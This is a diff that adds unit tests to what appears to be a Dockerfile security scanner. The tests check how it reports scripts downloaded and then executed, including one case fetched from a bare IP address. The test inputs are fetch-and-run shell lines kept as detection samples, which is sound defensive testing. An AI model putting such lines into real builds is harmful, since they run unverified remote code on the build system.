@@ -107,4 +107,35 @@ describe('curl-pipe-shell in two steps: a script downloaded to a file, then sour
     expect(docker('RUN curl -fsSL -o /tmp/setup.sh https://tools.example-dev.io/setup.sh\nRUN cat /tmp/setup.sh')).toEqual([]);
     expect(docker('RUN curl -fsSLo /tmp/t.tgz https://github.com/org/tool/releases/download/v1.2/tool.tgz && tar xzf /tmp/t.tgz -C /usr/local/bin')).toEqual([]);
   });
+  it('reports each distinct script a Dockerfile downloads and runs, once per source', () => {
+    const docker = (run: string) => extractDockerfile(`FROM debian:bookworm\nRUN apt-get update\n${run}\n`, 'Dockerfile').findings?.filter((f) => f.id === 'curl-pipe-shell' || f.id === 'downloaded-binary-run').map((f) => [f.id, f.severity, f.line, f.key.split('\u0000')[2]]);
+    // Two installers, from two hosts, in two RUNs: both.
+    expect(docker('RUN curl -fsSL -o /tmp/setup.sh https://tools.example-dev.io/setup.sh && bash /tmp/setup.sh\nRUN curl -fsSL -o /tmp/agent.sh https://cdn.agent-mirror.dev/agent.sh && sh /tmp/agent.sh')).toEqual([
+      ['curl-pipe-shell', 'high', 3, 'script:https://tools.example-dev.io/setup.sh'],
+      ['curl-pipe-shell', 'high', 4, 'script:https://cdn.agent-mirror.dev/agent.sh'],
+    ]);
+    // A vendor's installer and another host's script in one RUN: each with its own severity.
+    expect(docker("RUN curl --proto '=https' -sSf -o rustup-init.sh https://sh.rustup.rs && sh rustup-init.sh -y && curl -fsSLo /tmp/b.sh https://tools.example-dev.io/bootstrap.sh && . /tmp/b.sh")).toEqual([
+      ['curl-pipe-shell', 'medium', 3, 'script:https://sh.rustup.rs'],
+      ['curl-pipe-shell', 'high', 3, 'script:https://tools.example-dev.io/bootstrap.sh'],
+    ]);
+    // After a script fetched with ADD and run, a different one fetched with curl and run.
+    expect(docker('ADD https://get.example-tools.dev/install.sh /tmp/install.sh\nRUN sh /tmp/install.sh\nRUN curl -fsSL -o /tmp/setup.sh https://tools.example-dev.io/setup.sh && bash /tmp/setup.sh')).toEqual([
+      ['curl-pipe-shell', 'high', 3, 'add:https://get.example-tools.dev/install.sh'],
+      ['curl-pipe-shell', 'high', 5, 'script:https://tools.example-dev.io/setup.sh'],
+    ]);
+    // Next to a file from a bare IP run (downloaded-binary-run's), a script from a named host run.
+    expect(docker('RUN curl -fsSLo /tmp/h http://45.139.104.115/h && chmod +x /tmp/h\nRUN curl -fsSL -o /tmp/setup.sh https://tools.example-dev.io/setup.sh && bash /tmp/setup.sh')).toEqual([
+      ['downloaded-binary-run', 'high', 3, 'RUN curl -fsSLo /tmp/h http://45.139.104.115/h && chmod +x /tmp/h'],
+      ['curl-pipe-shell', 'high', 4, 'script:https://tools.example-dev.io/setup.sh'],
+    ]);
+  });
+  it('reports the same download once: the same script in two stages, the same source at another version, a bare IP\'s script', () => {
+    const docker = (run: string) => extractDockerfile(`FROM debian:bookworm AS build\nRUN apt-get update\n${run}\n`, 'Dockerfile').findings?.filter((f) => f.id === 'curl-pipe-shell' || f.id === 'downloaded-binary-run').map((f) => [f.id, f.line]);
+    expect(docker('RUN curl -fsSL -o /tmp/setup.sh https://tools.example-dev.io/setup.sh && bash /tmp/setup.sh\nFROM debian:bookworm\nRUN curl -fsSL -o /tmp/setup.sh https://tools.example-dev.io/setup.sh && bash /tmp/setup.sh')).toEqual([['curl-pipe-shell', 3]]);
+    expect(docker('RUN curl -fsSL -o /tmp/s.sh https://tools.example-dev.io/v1.2.3/setup.sh && sh /tmp/s.sh\nFROM debian:bookworm\nRUN curl -fsSL -o /tmp/s.sh https://tools.example-dev.io/v1.3.0/setup.sh && sh /tmp/s.sh')).toEqual([['curl-pipe-shell', 3]]);
+    expect(docker('RUN curl -fsSL -o /tmp/s.sh http://45.139.104.115/s.sh && sh /tmp/s.sh')).toEqual([['downloaded-binary-run', 3]]);
+    // A second script downloaded but only read, and one checked: nothing more.
+    expect(docker('RUN curl -fsSL -o /tmp/setup.sh https://tools.example-dev.io/setup.sh && bash /tmp/setup.sh\nRUN curl -fsSL -o /tmp/env.sh https://tools.example-dev.io/env.sh && cat /tmp/env.sh')).toEqual([['curl-pipe-shell', 3]]);
+  });
 });
